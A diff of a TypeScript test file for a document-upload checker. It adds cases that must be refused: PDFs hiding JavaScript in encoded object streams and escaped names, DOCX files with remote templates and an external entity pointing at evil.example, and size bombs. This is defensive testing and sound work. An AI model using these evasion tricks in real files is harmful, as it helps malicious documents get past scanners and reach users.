@@ -1,3 +1,5 @@
+import { deflateSync } from 'node:zlib';
+import { CHECK_WORKER } from '../../../test/support/check-worker.js';
 import {
   lockedDocx,
   packedPdfObjects,
@@ -14,9 +16,12 @@ import {
 } from '../../../test/support/sample-files.js';
 import type { AppError } from '../../common/errors/app-error.js';
 import type { FileReason } from '../../common/errors/file-reasons.js';
+import { AppLogger } from '../../common/logging/app-logger.js';
+import { AppConfig, type AppConfigValues } from '../../config/app-config.js';
 import { type DocumentKind, FACTORY_DOCUMENT } from '../document-kind.js';
 import type { SpooledFile } from '../upload/spooled-file.js';
-import { checkDocument } from './check-document.js';
+import { DocumentChecks } from './document-checks.js';
+import { VirusScanner } from './virus-scanner.js';
 
 const PICTURE: DocumentKind = { extensions: ['.pdf', '.jpg', '.jpeg', '.png'], maxBytes: 5 * 1024 * 1024 };
 const MB = 1024 * 1024;
@@ -35,8 +40,13 @@ function fileOf(name: string, bytes: Buffer): SpooledFile {
   };
 }
 
+const config = new AppConfig({ checkWorker: CHECK_WORKER } as AppConfigValues);
+const logger = new AppLogger('silent');
+const checks = new DocumentChecks(config, logger, new VirusScanner(config, logger));
+afterAll(() => checks.onApplicationShutdown());
+
 function check(name: string, bytes: Buffer, kind = FACTORY_DOCUMENT) {
-  return checkDocument(fileOf(name, bytes), kind);
+  return checks.check(fileOf(name, bytes), kind);
 }
 
 /** The word for programs beside each sentence for people. */
@@ -50,11 +60,13 @@ const REASON_OF: ReadonlyArray<readonly [says: string, reason: FileReason]> = [
   ['password', 'locked'],
   ['macros', 'macros'],
   ['scripts', 'active-content'],
+  ['hidden from a check', 'active-content'],
+  ['too complicated', 'too-complex'],
   ['active controls', 'active-content'],
   ['template', 'active-content'],
   ['attached', 'attachments'],
   ['packed inside', 'attachments'],
-  ['second file', 'second-file'],
+  ['A second file', 'second-file'],
   ['large size', 'unpacks-huge'],
   ['too large', 'too-many-pixels'],
   ['too small', 'too-few-pixels'],
@@ -105,7 +117,7 @@ describe('an accepted file', () => {
     ],
     [
       'noise.pdf',
-      samplePdf({ objects: '4 0 obj\n<< /Length 9 >>\nstream\n/JS /XFA \nendstream\nendobj' }),
+      samplePdf({ objects: '4 0 obj\n<< /Length 9 >>\nstream\n/JS /AA \nendstream\nendobj' }),
       'pdf',
       'application/pdf',
     ],
@@ -185,6 +197,28 @@ it.each([
   await expect(check('plan.docx', sampleDocx(parts))).resolves.not.toThrow();
 });
 
+/** Objects with a script in a stream that is packed as `how` says. */
+function hiddenObjects(
+  how = '/Filter /FlateDecode',
+  pack: (data: Buffer) => Buffer | string = (data) => data,
+  type = '/Type /ObjStm',
+): Buffer {
+  const data = Buffer.from(pack(deflateSync('6 0 << /S /JavaScript /JS (x) >>')));
+  const head = `5 0 obj\n<< ${type} /N 1 /First 4 ${how} /Length ${data.length} >>\nstream\n`;
+  return Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream\nendobj')]);
+}
+
+function hiddenScript(...args: Parameters<typeof hiddenObjects>): Buffer {
+  return samplePdf({ objects: hiddenObjects(...args) });
+}
+
+const SETTINGS = 'word/_rels/settings.xml.rels';
+const REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"';
+
+function relation(attributes: string): Buffer {
+  return sampleDocx({ [SETTINGS]: `<Relationships><Relationship ${attributes}/></Relationships>` });
+}
+
 describe('a file that must be saved differently is refused with 400', () => {
   const macroInfo = pptRecord(
     0x0f,
@@ -222,6 +256,50 @@ describe('a file that must be saved differently is refused with 400', () => {
       samplePdf({ objects: '4 0 obj\n<< /Type /EmbeddedFile >>\nstream\nx\nendstream\nendobj' }),
       'attached',
     ],
+    [
+      'two-filters.pdf',
+      hiddenScript('/Filter [/ASCIIHexDecode /FlateDecode]', (data) => `${data.toString('hex')}>`),
+      'hidden',
+    ],
+    ['one-other-filter.pdf', hiddenScript('/Filter /LZWDecode'), 'hidden'],
+    ['filter-elsewhere.pdf', hiddenScript('/Filter 7 0 R'), 'hidden'],
+    ['filter-elsewhere-in-list.pdf', hiddenScript('/Filter [7 0 R]'), 'hidden'],
+    ['two-lists.pdf', hiddenScript('/Filter /FlateDecode /Filter [/ASCIIHexDecode]'), 'hidden'],
+    ['predictor.pdf', hiddenScript('/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'), 'hidden'],
+    ['parameters-elsewhere.pdf', hiddenScript('/Filter /FlateDecode /DecodeParms 7 0 R'), 'hidden'],
+    ['short-parameters.pdf', hiddenScript('/Filter /FlateDecode /D#50 7 0 R'), 'hidden'],
+    ['type-elsewhere.pdf', hiddenScript('/Filter /FlateDecode', undefined, '/Type 7 0 R'), 'scripts'],
+    ['no-type.pdf', hiddenScript('/Filter /FlateDecode', undefined, ''), 'scripts'],
+    ['disguised-type.pdf', hiddenScript('/Filter /FlateDecode', undefined, '/Type /Obj#53tm'), 'scripts'],
+    ['hyphen.pdf', samplePdf({ objects: '4 0 obj\n<< /S -/J#61vaScript /JS (x) >>\nendobj' }), 'scripts'],
+    [
+      'in-a-string.pdf',
+      samplePdf({ objects: '4 0 obj\n( 9 0 obj << /S /J#61vaScript /J#53 <78> >> endobj )\nendobj' }),
+      'scripts',
+    ],
+    [
+      'in-a-comment.pdf',
+      samplePdf({ objects: '4 0 obj\n% 9 0 obj << /S /Ren#64ition /J#53 <78> >> endobj\n1\nendobj' }),
+      'scripts',
+    ],
+    [
+      'packed-in-a-string.pdf',
+      samplePdf({
+        objects: Buffer.concat([Buffer.from('4 0 obj\n('), hiddenObjects(), Buffer.from(')\nendobj')]),
+      }),
+      'hidden',
+    ],
+    [
+      'stream-in-a-stream.pdf',
+      samplePdf({ objects: '4 0 obj\n<< >>\nstream\n<< /N 1 /First 4 >> %x\nstream\nx\nendstream\nendobj' }),
+      'hidden',
+    ],
+    [
+      'object-in-an-object.pdf',
+      samplePdf({ objects: '4 0 obj\n<< /Type /ObjStm 5 0 obj /N 1 >>\nstream\nx\nendstream\nendobj' }),
+      'damaged',
+    ],
+    ['escapes.pdf', samplePdf({ objects: Buffer.alloc(4 * MB, '/#61#62') }), 'large size'],
     ['bomb.pdf', samplePdf({ objects: packedPdfObjects(Buffer.alloc(20 * MB)) }), 'large size'],
     ['names.pdf', samplePdf({ objects: Buffer.alloc(2 * MB, '/a') }), 'large size'],
     ['loop.doc', withLoop(sampleDoc()), 'damaged'],
@@ -248,6 +326,56 @@ describe('a file that must be saved differently is refused with 400', () => {
     ['program.docx', sampleDocx({ 'word/embeddings/evil.exe': 'MZ' }), 'packed inside'],
     ['object-bin.docx', sampleDocx({ 'word/embeddings/oleObject1.bin': 'x' }), 'packed inside'],
     ['elsewhere.docx', sampleDocx(relating('package', '../media/evil.exe', 'Internal')), 'packed inside'],
+    ['sign-in-id.docx', relation(`Id="r>1" ${REMOTE}`), 'template'],
+    ['mode-as-reference.docx', relation(REMOTE.replace('"External', '"&#69;xternal')), 'template'],
+    ['mode-with-blanks.docx', relation(REMOTE.replace('"External', '" External ')), 'template'],
+    ['unknown-mode.docx', relation(REMOTE.replace('External', 'Elsewhere')), 'damaged'],
+    [
+      'hyphen-in-prefix.docx',
+      sampleDocx({
+        [SETTINGS]: `<a-b:Relationships xmlns:a-b="x"><a-b:Relationship ${REMOTE}/></a-b:Relationships>`,
+      }),
+      'template',
+    ],
+    ['other-template.docx', relation(REMOTE.replace('http:', '&#x68;ttp:')), 'template'],
+    [
+      'own-entity.docx',
+      sampleDocx({
+        [SETTINGS]: `<!DOCTYPE x [<!ENTITY e "External">]><Relationships><Relationship ${REMOTE.replace('External', '&e;')}/></Relationships>`,
+      }),
+      'damaged',
+    ],
+    [
+      'entity-in-a-part.docx',
+      sampleDocx({
+        'word/settings.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/">]><x>&e;</x>',
+      }),
+      'damaged',
+    ],
+    [
+      'escaped-name.docx',
+      sampleDocx({
+        'word/_rels/settings.xml%2Erels': `<Relationships><Relationship ${REMOTE}/></Relationships>`,
+      }),
+      'template',
+    ],
+    [
+      'disguised-docm.docx',
+      sampleDocx({}, 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
+      'macros',
+    ],
+    ['deep.docx', sampleDocx({ [SETTINGS]: '<a>'.repeat(40_000) }), 'damaged'],
+    [
+      'wide.docx',
+      sampleDocx({ [SETTINGS]: `<a ${Array.from({ length: 9_000 }, (_, n) => `b${n}="1"`).join(' ')}/>` }),
+      'damaged',
+    ],
+    ['repeated.docx', sampleDocx({ [SETTINGS]: '<Relationship '.repeat(18_000) }), 'damaged'],
+    [
+      'long-list.docx',
+      sampleDocx({ [SETTINGS]: `<Relationships>${' '.repeat(300_000)}</Relationships>` }),
+      'damaged',
+    ],
     ['utf16.docx', sampleDocx({ 'word/_rels/document.xml.rels': Buffer.from('<x/>', 'utf16le') }), 'damaged'],
     ['bomb.docx', sampleDocx({ 'word/media/a.bmp': Buffer.alloc(60 * MB) }), 'large size'],
     [
